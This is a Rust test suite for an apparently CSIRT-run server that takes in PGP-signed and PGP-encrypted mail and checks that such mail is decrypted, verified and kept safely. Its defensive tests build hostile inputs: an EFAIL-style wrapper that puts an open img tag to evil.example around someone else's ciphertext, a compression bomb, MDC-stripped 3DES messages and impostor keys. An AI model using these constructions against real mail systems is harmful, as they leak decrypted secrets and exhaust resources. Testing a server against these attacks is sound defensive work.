//! Mail that comes in signed, encrypted or both, made by gpg: opened, judged, and never lost.

use atalaya::access::{Role, Who};
use atalaya::keys::{directory, own};
use atalaya::mailbox::{self, Delivered};
use atalaya::reports;
use post::openpgp::SecretKey;
use post::openpgp::key::NewKey;
use store::Id;

use crate::house::{Gpg, House, instant};

pub const US: &str = "report@csirt.maluti.example";
pub const PEER: &str = "desk@norlink.example";

/// The mail key of the test team, held by the server.
pub async fn mail_key(house: &House) -> SecretKey {
    let address = house.app.profile.mail.as_ref().unwrap().from_address.clone();
    let user_id = format!("CSIRT <{address}>");
    let new = NewKey { user_id: &user_id, at: instant("2026-11-01T00:00:00Z"), valid: jiff::SignedDuration::from_hours(365 * 24), passphrase: None };
    let key = SecretKey::generate(&new, [9; 32]).unwrap();
    own::install(&house.app, &Who::Operator, key.armored().unwrap().as_bytes(), "").await.unwrap();
    key
}

/// A peer with gpg who has our key.
pub fn peer(ours: &SecretKey) -> Gpg {
    let gpg = Gpg::of(&format!("Norlink Desk <{PEER}>"));
    gpg.must(&["--import"], ours.certificate().armored().unwrap().as_bytes());
    gpg
}

pub async fn keep(house: &House, from: &str, raw: &[u8]) {
    let mail = Delivered { from: from.into(), to: vec![US.into()], raw: raw.to_vec(), via: "mail-in" };
    let _ = mailbox::keep(&house.app, mail).await.unwrap();
}

pub fn crlf(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).replace("\r\n", "\n").replace('\n', "\r\n")
}

pub fn head(subject: &str) -> String {
    format!(
        "From: Norlink Desk <{PEER}>\r\nTo: {US}\r\nSubject: {subject}\r\nMessage-ID: <{}@norlink.example>\r\nMIME-Version: 1.0\r\n",
        subject.replace(' ', "-")
    )
}

pub fn signed(gpg: &Gpg, subject: &str, entity: &str) -> String {
    signed_with(&Program::Gpg(gpg).detached(entity.as_bytes()), subject, entity)
}

fn signed_with(signature: &str, subject: &str, entity: &str) -> String {
    format!(
        "{}Content-Type: multipart/signed; boundary=sig; micalg=pgp-sha256; protocol=\"application/pgp-signature\"\r\n\r\n--sig\r\n{entity}\r\n--sig\r\n\
         Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n{signature}\r\n--sig--\r\n",
        head(subject)
    )
}

pub fn encrypted(subject: &str, message: &str) -> String {
    format!(
        "{}Content-Type: multipart/encrypted; boundary=enc; protocol=\"application/pgp-encrypted\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\n\
         Version: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n{message}\r\n--enc--\r\n",
        head(subject)
    )
}

fn our_address(house: &House) -> String {
    house.app.profile.mail.as_ref().unwrap().from_address.clone()
}

async fn report_titled(house: &House, title: &str) -> reports::Report {
    let rows: Vec<(String,)> = house.rows("select number from reports where title = $1", store::args![title]).await;
    let (number,) = rows.first().unwrap_or_else(|| panic!("on {}: no report “{title}”", house.on));
    reports::find(&mut house.app.db.read().await.unwrap(), number).await.unwrap().unwrap()
}

async fn files(house: &House, report: Id) -> Vec<(String, Vec<u8>)> {
    let mut reader = house.app.db.read().await.unwrap();
    let mut all = Vec::new();
    for file in reports::files(&mut reader, report).await.unwrap() {
        all.push((file.name.clone(), house.app.blobs.get(&mut reader, file.blob).await.unwrap()));
    }
    all
}

/// A program with which a peer writes to us.
#[derive(Clone, Copy)]
enum Program<'p> {
    Gpg(&'p Gpg),
    /// With the peer's secret key and our certificate as files.
    Sq(&'p str, &'p str),
}

impl Program<'_> {
    /// Bytes signed beside them, in armor.
    fn detached(self, input: &[u8]) -> String {
        crlf(&match self {
            Self::Gpg(gpg) => gpg.must(&["--armor", "--digest-algo", "SHA256", "-u", PEER, "--detach-sign"], input),
            Self::Sq(own, _) => sq(&["sign", "--detached", "-t", SQ_NOW, "--signer-key", own], input),
        })
    }

    /// A text signed in clear.
    fn clear(self, text: &str) -> String {
        crlf(&match self {
            Self::Gpg(gpg) => gpg.must(&["-u", PEER, "--clearsign"], text.as_bytes()),
            Self::Sq(own, _) => sq(&["sign", "--cleartext-signature", "-t", SQ_NOW, "--signer-key", own], text.as_bytes()),
        })
    }

    /// A message in armor: signed, encrypted to us, or both.
    fn message(self, how: &str, us: &str, input: &[u8]) -> String {
        crlf(&match self {
            Self::Gpg(gpg) => {
                let more: &[&str] = match how {
                    "signed" => &["-u", PEER, "--sign"],
                    "encrypted" => &["-r", us, "--encrypt"],
                    _ => &["-u", PEER, "-r", us, "--sign", "--encrypt"],
                };
                gpg.must(&[&["--armor"], more].concat(), input)
            }
            Self::Sq(own, ours) => {
                let more: &[&str] = match how {
                    "signed" => &["sign", "-t", SQ_NOW, "--signer-key", own],
                    "encrypted" => &["encrypt", "-t", SQ_NOW, "--recipient-cert", ours],
                    _ => &["encrypt", "-t", SQ_NOW, "--recipient-cert", ours, "--signer-key", own],
                };
                sq(more, input)
            }
        })
    }
}

/// `MORNING` as sq spells it.
pub const SQ_NOW: &str = "2026-11-23T08:00:00Z";

/// Runs sq with these arguments; what it wrote.
pub fn sq(arguments: &[&str], input: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    use std::process::{Command, Stdio};
    let mut child = Command::new("sq").args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "sq {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

/// A mail of this kind with these words and this file.
fn letter(program: Program<'_>, (how, form): (&str, &str), us: &str, title: &str, words: &str, (file, content): (&str, &[u8])) -> String {
    let base64 = data_encoding::BASE64.encode(content);
    if form == "mime" {
        let text = format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{words}\r\n");
        let entity = if file.is_empty() {
            text
        } else {
            format!(
                "Content-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\n{text}\r\n--in\r\nContent-Type: application/octet-stream\r\n\
                 Content-Disposition: attachment; filename={file}\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}\r\n--in--\r\n"
            )
        };
        return if how == "signed" {
            signed_with(&program.detached(entity.as_bytes()), title, &entity)
        } else {
            encrypted(title, &program.message(how, us, entity.as_bytes()))
        };
    }
    let text = if how == "signed" { program.clear(&format!("{words}\n")) } else { program.message(how, us, words.as_bytes()) };
    let file = if file.is_empty() {
        String::new()
    } else {
        let armored = data_encoding::BASE64.encode(program.message(how, us, content).as_bytes());
        format!(
            "--m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename={file}.pgp\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{armored}\r\n"
        )
    };
    format!("{}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\n{text}\r\n{file}--m--\r\n", head(title))
}

/// Every way in which programs send it: which program, how, in which form, with which file.
#[tokio::test(flavor = "multi_thread")]
async fn what_gpg_and_sq_sign_encrypt_or_both_in_a_mail_is_opened_and_judged_with_every_file() {
    let binary: Vec<u8> = (0..4096_u32).map(|n| (n * 31 % 251) as u8).collect();
    for house in House::both().await {
        let ours = mail_key(&house).await;
        let gpg = peer(&ours);
        let print = gpg.fingerprint(PEER);
        directory::take(&house.app, &Who::Operator, &gpg.export(PEER), "", directory::Source::Import).await.unwrap();
        directory::verify(&house.app, &Who::Operator, &print, PEER, "by phone").await.unwrap();
        let us = our_address(&house);
        let folder = tempfile::tempdir().unwrap();
        let file = |name: &str, bytes: &[u8]| {
            std::fs::write(folder.path().join(name), bytes).unwrap();
            folder.path().join(name).display().to_string()
        };
        let own = file("own.asc", &gpg.must(&["--armor", "--export-secret-keys", PEER], b""));
        let certificate = file("ours.asc", ours.certificate().armored().unwrap().as_bytes());
        let analyst = house.login_as(Role::Analyst).await;
        let mut done = 0;
        for (name, program) in [("gpg", Program::Gpg(&gpg)), ("sq", Program::Sq(&own, &certificate))] {
            for how in ["signed", "encrypted", "both"] {
                for form in ["mime", "inline"] {
                    for (file, content) in [("", &b""[..]), ("list.csv", b"a,b\r\n1,2\r\n"), ("dump.bin", &binary)] {
                        let title = format!("{name} {how} {form} {}", if file.is_empty() { "none" } else { file });
                        let words = format!("The words of {title}, seen at 192.0.2.7.");
                        let raw = letter(program, (how, form), &us, &title, &words, (file, content));
                        keep(&house, PEER, raw.as_bytes()).await;
                        house.run_jobs().await;
                        let report = report_titled(&house, &title).await;
                        assert_eq!(report.body.trim(), words, "on {}: {title}", house.on);
                        assert!(report.problems.is_empty(), "{title}: {:?}", report.problems);
                        let found = files(&house, report.id).await;
                        let wanted: Vec<(String, Vec<u8>)> = if file.is_empty() { vec![] } else { vec![(file.to_owned(), content.to_vec())] };
                        let kept: Vec<_> = found.into_iter().filter(|(name, _)| name != "signature.asc").collect();
                        assert!(kept == wanted, "{title}: {:?}", kept.iter().map(|(name, bytes)| (name, bytes.len())).collect::<Vec<_>>());
                        let shown = analyst.get(&format!("/inbox/{}", report.number)).await.must(200);
                        let says = shown.words();
                        assert_eq!(says.contains("was encrypted to us"), how != "signed", "{title}: {says}");
                        assert_eq!(says.contains(&format!("with a verified key of {PEER} (by phone)")), how != "encrypted", "{title}: {says}");
                        assert_eq!(says.contains("Nobody signed"), how == "encrypted", "{title}");
                        let parts = if form == "inline" && !file.is_empty() { 2 } else { 1 };
                        assert_eq!(says.matches("What was signed:").count(), if how == "encrypted" { 0 } else { parts }, "{title}: {says}");
                        done += 1;
                    }
                }
            }
        }
        assert_eq!(done, 36, "on {}", house.on);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_opened_or_trusted_ends_in_one_plain_line_with_the_original_kept() {
    for house in House::both().await {
        let ours = mail_key(&house).await;
        let gpg = peer(&ours);
        gpg.make("Other <other@norlink.example>", "1y");
        let us = our_address(&house);
        directory::take(&house.app, &Who::Operator, &gpg.export(PEER), "", directory::Source::Import).await.unwrap();
        let entity = "Content-Type: text/plain\r\n\r\nSecret words\r\n";
        let good = crlf(&gpg.must(&["--armor", "-u", PEER, "-r", &us, "--sign", "--encrypt"], entity.as_bytes()));
        let (cut, _) = good.split_at(good.len() / 2);
        let cut_quietly = format!("{cut}\r\n-----END PGP MESSAGE-----\r\n");
        let foreign = crlf(&gpg.must(&["--armor", "-r", "other@norlink.example", "--encrypt"], entity.as_bytes()));
        let bomb = crlf(&gpg.must(&["--armor", "-r", &us, "--compress-level", "9", "--encrypt"], &vec![b'a'; 80 << 20]));
        let unprotected = crlf(&gpg.must(&["--armor", "-r", &us, "--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "--encrypt"], entity.as_bytes()));
        let only_signed = crlf(&gpg.must(&["--armor", "-u", PEER, "--sign"], entity.as_bytes()));
        let markers =
            format!("-----BEGIN PGP MESSAGE-----\r\n\r\n{}\r\n-----END PGP MESSAGE-----\r\n", data_encoding::BASE64.encode(&b"\xca\x03PGP".repeat(1_000_000)));
        let password = crlf(&gpg.must(&["--armor", "--passphrase", "a phrase", "--symmetric"], entity.as_bytes()));
        let changed = good.replacen("\r\n\r\n", "\r\n\r\nAAAA", 1);
        let honest = signed(&gpg, "honest", "Content-Type: text/plain\r\n\r\nPay 10\r\n");
        let cases: [(&str, String, &str); 12] = [
            ("truncated", encrypted("truncated", cut), "could not be opened"),
            ("truncated quietly", encrypted("truncated quietly", &cut_quietly), "could not be opened"),
            ("wrong recipient", encrypted("wrong recipient", &foreign), "it is not encrypted to a key that is at hand"),
            ("bomb", encrypted("bomb", &bomb), "could not be opened"),
            ("unprotected", encrypted("unprotected", &unprotected), "could not be opened"),
            ("only signed", encrypted("only signed", &only_signed), ""),
            ("a million packets", encrypted("a million packets", &markers), "could not be opened"),
            ("password", encrypted("password", &password), "could not be opened"),
            ("no message", encrypted("no message", "just words"), "could not be opened"),
            ("changed", encrypted("changed", &changed), "could not be opened"),
            ("tampered", honest.replace("Subject: honest", "Subject: tampered").replace("Pay 10", "Pay 99"), ""),
            ("mixed", mixed(&good), "The part inside of others is encrypted and could not be opened"),
        ];
        for (title, raw, _) in &cases {
            assert!(raw.contains(&format!("Subject: {title}\r\n")));
            keep(&house, PEER, raw.as_bytes()).await;
        }
        house.run_jobs().await;
        let analyst = house.login_as(Role::Analyst).await;
        for (title, raw, problem) in &cases {
            let report = report_titled(&house, title).await;
            let kept = house.app.blobs.get(&mut house.app.db.read().await.unwrap(), report.raw.unwrap()).await.unwrap();
            assert!(kept == raw.as_bytes(), "on {}: {title} is not as it came", house.on);
            assert_eq!(
                report.problems.iter().filter(|line| line.contains(problem)).count(),
                usize::from(!problem.is_empty()),
                "{title}: {:?}",
                report.problems
            );
            assert!(report.problems.iter().all(|line| !line.contains('\n') && line.len() < 400), "{title}: {:?}", report.problems);
            let says = analyst.get(&format!("/inbox/{}", report.number)).await.must(200).words();
            match *title {
                "only signed" => assert!(says.contains("Signed by") && !says.contains("was encrypted to us"), "{says}"),
                "tampered" => assert!(says.contains("does not hold: it does not fit") && report.body.contains("Pay 99"), "{says}"),
                // The secret text never stands between the attacker's own words.
                "mixed" => assert!(!report.body.contains("Secret words") && !says.contains("The mail was encrypted to us"), "{}: {says}", report.body),
                _ => assert!(!report.body.contains("Secret words"), "{title}: {}", report.body),
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_weak_cipher_is_named_for_each_part_and_a_strong_one_is_nothing_to_say_of() {
    let house = House::sqlite().await;
    let ours = mail_key(&house).await;
    let (gpg, us) = (peer(&ours), our_address(&house));
    let analyst = house.login_as(Role::Analyst).await;
    let with = |cipher: &str, input: &[u8]| crlf(&gpg.must(&["--armor", "-r", &us, "--cipher-algo", cipher, "--encrypt"], input));
    for (cipher, named) in [("3DES", "3DES"), ("CAST5", "CAST5"), ("IDEA", "IDEA"), ("BLOWFISH", "Blowfish"), ("AES", ""), ("AES256", ""), ("TWOFISH", "")] {
        let (title, entity) = (format!("by {cipher}"), "Content-Type: text/plain\r\n\r\nSecret words\r\n");
        let file = data_encoding::BASE64.encode(with(cipher, b"a file").as_bytes());
        let piece = format!(
            "{}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--m\r\n\
             Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=list.csv.pgp\r\nContent-Transfer-Encoding: base64\r\n\r\n\
             {file}\r\n--m--\r\n",
            head(&format!("{title} file"))
        );
        for (title, raw, part) in
            [(title.clone(), encrypted(&title, &with(cipher, entity.as_bytes())), "The mail"), (format!("{title} file"), piece, "List.csv.pgp")]
        {
            keep(&house, PEER, raw.as_bytes()).await;
            house.run_jobs().await;
            let report = report_titled(&house, &title).await;
            let says = analyst.get(&format!("/inbox/{}", report.number)).await.must(200).words();
            assert!(says.contains(&format!("{part} was encrypted to us")), "{title}: {says}");
            let line = format!("{part} was encrypted with a weak cipher ({named})");
            assert_eq!((says.contains(&line), says.contains("weak cipher")), (!named.is_empty(), !named.is_empty()), "{title}: {says}");
        }
    }
}

/// An attacker's page around somebody else's message, as EFAIL does it.
fn mixed(message: &str) -> String {
    format!(
        "{}Content-Type: multipart/mixed; boundary=e\r\n\r\n--e\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--e\r\n\
         Content-Type: multipart/encrypted; boundary=f; protocol=\"application/pgp-encrypted\"\r\n\r\n--f\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --f\r\nContent-Type: application/octet-stream\r\n\r\n{message}\r\n--f--\r\n--e\r\nContent-Type: text/html\r\n\r\n\">\r\n--e--\r\n",
        head("mixed")
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_come_in_unverified_never_replace_a_verified_one_and_a_foreign_signer_is_named() {
    for house in House::both().await {
        let ours = mail_key(&house).await;
        let gpg = peer(&ours);
        let analyst = house.login_as(Role::Analyst).await;
        let field = |gpg: &Gpg| format!("Autocrypt: addr={PEER}; keydata={}\r\n", data_encoding::BASE64.encode(&gpg.must(&["--export", PEER], b"")));
        // Signed by a key that came along: known from now on, and no more than that.
        let raw = signed(&gpg, "first", "Content-Type: text/plain\r\n\r\nHello\r\n").replacen("MIME-Version", &format!("{}MIME-Version", field(&gpg)), 1);
        keep(&house, PEER, raw.as_bytes()).await;
        house.run_jobs().await;
        let first = report_titled(&house, "first").await;
        assert!(analyst.get(&format!("/inbox/{}", first.number)).await.words().contains(&format!("an unverified key of {PEER}")));
        let print = gpg.fingerprint(PEER);
        assert!(analyst.get("/keys").await.must(200).shows("in the header of a mail (Autocrypt)"));
        let page = format!("/keys/{print}");
        let _ = analyst.post(&format!("{page}/verification"), &[("address", PEER), ("note", "")]).await.must(422);
        let _ = analyst.post(&format!("{page}/verification"), &[("address", PEER), ("note", "By phone with their desk")]).await.must(303);
        assert!(analyst.get(&format!("/inbox/{}", first.number)).await.words().contains("with a verified key"));
        // Somebody else's key in the same name: beside it, as a conflict, and not used.
        let thief = Gpg::of(&format!("Norlink Desk <{PEER}>"));
        let raw = signed(&thief, "second", "Content-Type: text/plain\r\n\r\nHello\r\n").replacen("MIME-Version", &format!("{}MIME-Version", field(&thief)), 1);
        keep(&house, PEER, raw.as_bytes()).await;
        house.run_jobs().await;
        let second = report_titled(&house, "second").await;
        assert!(analyst.get(&format!("/inbox/{}", second.number)).await.words().contains("look at the conflict"));
        assert!(analyst.get(&format!("/keys/{}", thief.fingerprint(PEER))).await.must(200).shows("Another key was known for this address first"));
        let of: Vec<(String, String)> = house.rows("select fingerprint, state from openpgp_bindings order by state", vec![]).await;
        assert_eq!(of, [(thief.fingerprint(PEER), "conflict".to_owned()), (print.clone(), "verified".to_owned())]);
        // A verified key of one address is no proof for another.
        let raw = signed(&gpg, "third", "Content-Type: text/plain\r\n\r\nHello\r\n").replace(&format!("<{PEER}>"), "<boss@norlink.example>");
        keep(&house, "boss@norlink.example", raw.as_bytes()).await;
        house.run_jobs().await;
        let third = report_titled(&house, "third").await;
        assert!(analyst.get(&format!("/inbox/{}", third.number)).await.words().contains("not of boss@norlink.example who sent it"));
        let _ = analyst.post(&format!("{page}/removal"), &[("address", PEER)]).await.must(303);
        let _ = analyst.get(&page).await.must(404);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_mail_key_reads_no_sealed_report_and_a_reader_s_key_no_mail() {
    use atalaya::sealed::keys::{NewReader, add_reader, set_team};
    let house = House::sqlite().await;
    let ours = mail_key(&house).await;
    let certificate = ours.certificate().armored().unwrap().into_bytes();
    let reader = NewReader { certificate: certificate.clone(), intake: "default".into(), name: String::new(), person: None, recovery: false };
    for error in [add_reader(&house.app, &Who::Operator, reader).await.unwrap_err(), set_team(&house.app, &Who::Operator, &certificate).await.unwrap_err()] {
        assert!(error.to_string().contains("it never opens sealed reports"), "{error}");
    }
    let address = our_address(&house);
    let user_id = format!("Duty <{address}>");
    let new =
        NewKey { user_id: &user_id, at: instant("2026-11-01T00:00:00Z"), valid: jiff::SignedDuration::from_hours(999 * 24), passphrase: Some("a phrase") };
    let duty = SecretKey::generate(&new, [8; 32]).unwrap();
    let given = NewReader {
        certificate: duty.certificate().armored().unwrap().into_bytes(),
        intake: "default".into(),
        name: String::new(),
        person: None,
        recovery: false,
    };
    add_reader(&house.app, &Who::Operator, given).await.unwrap();
    let secret = duty.armored().unwrap();
    let error = own::install(&house.app, &Who::Operator, secret.as_bytes(), "wrong").await.unwrap_err();
    assert!(error.to_string().contains("passphrase is wrong"), "{error}");
    let error = own::install(&house.app, &Who::Operator, secret.as_bytes(), "a phrase").await.unwrap_err();
    assert!(error.to_string().contains("The server must never hold it"), "{error}");
    // On disk the secret part is sealed: neither its armor nor its bytes stand in the database.
    let bytes = std::fs::read(house.data().join("atalaya.db")).unwrap();
    assert!(!bytes.windows(22).any(|window| window == b"PGP PRIVATE KEY BLOCK-"));
}
